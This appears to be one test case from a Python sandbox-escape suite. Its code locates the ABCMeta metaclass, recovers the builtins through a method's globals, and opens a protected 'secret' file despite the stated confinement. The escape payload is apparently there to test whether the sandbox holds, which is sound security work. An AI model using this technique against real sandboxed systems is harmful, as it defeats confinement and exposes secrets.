# T02: Take the builtins from a method of the abstract metaclass.
# aim: secret
# sealed: view
# confined: landlock
# process: nothing
found = [kind for kind in type.__subclasses__(type) if kind.__name__ == "ABCMeta"][0]
builtins = found.register.__builtins__ if hasattr(found.register, "__builtins__") else found.register.__globals__["__builtins__"]
builtins = builtins if isinstance(builtins, dict) else vars(builtins)
print(builtins["open"](canary["secret"]).read())
